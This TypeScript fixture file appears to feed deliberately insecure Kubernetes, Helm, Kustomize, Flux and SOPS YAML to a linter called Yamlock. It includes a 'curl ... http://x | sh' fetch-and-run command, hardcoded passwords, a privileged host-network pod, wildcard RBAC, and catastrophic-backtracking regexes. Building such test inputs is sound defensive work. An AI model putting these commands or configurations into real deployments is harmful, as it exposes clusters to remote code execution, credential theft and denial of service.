/** Texts of each sort of file that Yamlock reads, by a name that files of the sort have. Hostile files are made of them. */
export const TEXTS: Readonly<Record<string, string>> = {
  'pod.yaml': `apiVersion: v1
kind: Pod
metadata:
  name: web
  namespace: shop
spec:
  hostNetwork: true
  containers:
    - name: app
      image: ghcr.io/acme/web:latest
      args: ["--password=quiet-harbor-42", -c, "curl -u admin:quiet-harbor-42 http://x | sh"]
      env:
        - {name: DB_PASSWORD, value: quiet-harbor-42}
        - name: TOKEN
          valueFrom: {secretKeyRef: {name: web-db, key: token}}
      securityContext: {privileged: true}
`,
  'secret.yaml': `apiVersion: v1
kind: Secret
metadata: {name: web-db, namespace: shop, annotations: {"yamlock/ignore": secret-in-manifest}}
stringData:
  password: "quiet-harbor-42"
  url: postgres://app:quiet-harbor-42@db:5432/shop
data:
  token: cXVpZXQtaGFyYm9yLTQy
`,
  'config.yaml': `apiVersion: v1
kind: ConfigMap
metadata: {name: settings}
data:
  app.properties: |
    db.password=quiet-harbor-42
    db.url=jdbc:postgresql://db/shop?user=app&password=quiet-harbor-42
  app.json: '{"auth": {"token": "quiet-harbor-42"}}'
`,
  'rbac.yaml': `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: all}
rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: all, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: all}
subjects: [{kind: ServiceAccount, name: default, namespace: shop}]
`,
  'kustomization.yaml': `namespace: shop
namePrefix: a-
resources: [pod.yaml, secret.yaml, ../base]
patches:
  - target: {kind: Pod}
    patch: |
      - op: replace
        path: /spec/containers/0/image
        value: web:1
secretGenerator: [{name: more, literals: [password=quiet-harbor-42]}]
images: [{name: ghcr.io/acme/web, newTag: "2"}]
`,
  'Chart.yaml': `apiVersion: v2
name: web
version: 1.0.0
dependencies: [{name: db, version: 1.x, repository: "https://charts.example.com", condition: db.enabled}]
`,
  'values.yaml': `image: {repository: ghcr.io/acme/web, tag: latest}
db: {enabled: true, password: quiet-harbor-42}
securityContext: {}
`,
  'templates/web.yaml': `{{- define "web.labels" -}}
app: {{ .Release.Name | quote }}
{{- end }}
apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ include "web.name" . | default .Release.Name }}
  labels: {{- include "web.labels" . | nindent 4 }}
spec:
  template:
    spec:
      containers:
        {{- range $i, $one := .Values.list }}
        - name: app-{{ $i }}
          image: "{{ $.Values.image.repository }}:{{ $.Values.image.tag }}"
          env: {{- toYaml $one.env | nindent 12 }}
        {{- end }}
`,
  'sops.yaml': `apiVersion: v1
kind: Secret
metadata: {name: kept}
data:
  password: ENC[AES256_GCM,data:AAAA,iv:AAAA,tag:AAAA,type:str]
sops:
  age: [{recipient: age1x, enc: "-----BEGIN AGE ENCRYPTED FILE-----"}]
  lastmodified: "2025-01-01T00:00:00Z"
  mac: ENC[AES256_GCM,data:AAAA,iv:AAAA,tag:AAAA,type:str]
  encrypted_regex: ^(data|stringData)$
  version: 3.9.0
`,
  '.sops.yaml': `creation_rules:
  - path_regex: (a+)+\\.yaml$
    encrypted_regex: ^(data|stringData)$
    age: age1x
`,
  '.yamlock.yaml': `rules: {image-latest: off}
ignore: ["vendor/**"]
overrides: [{files: ["**/*.test.yaml"], rules: {secret-in-env: error}}]
`,
  'release.yaml': `apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: web, namespace: shop}
spec:
  chart: {spec: {chart: ./, sourceRef: {kind: GitRepository, name: flux-system}}}
  values: {db: {password: quiet-harbor-42}}
  valuesFrom: [{kind: Secret, name: web-db}]
`,
  'crd.yaml': `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: things.example.com}
spec:
  group: example.com
  names: {kind: Thing, plural: things}
  versions:
    - name: v1
      schema: {openAPIV3Schema: {type: object, properties: {spec: {type: object, properties: {name: {type: string, pattern: "^(a+)+$"}}}}}}
---
apiVersion: example.com/v1
kind: Thing
metadata: {name: one}
spec: {name: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab}
`,
};
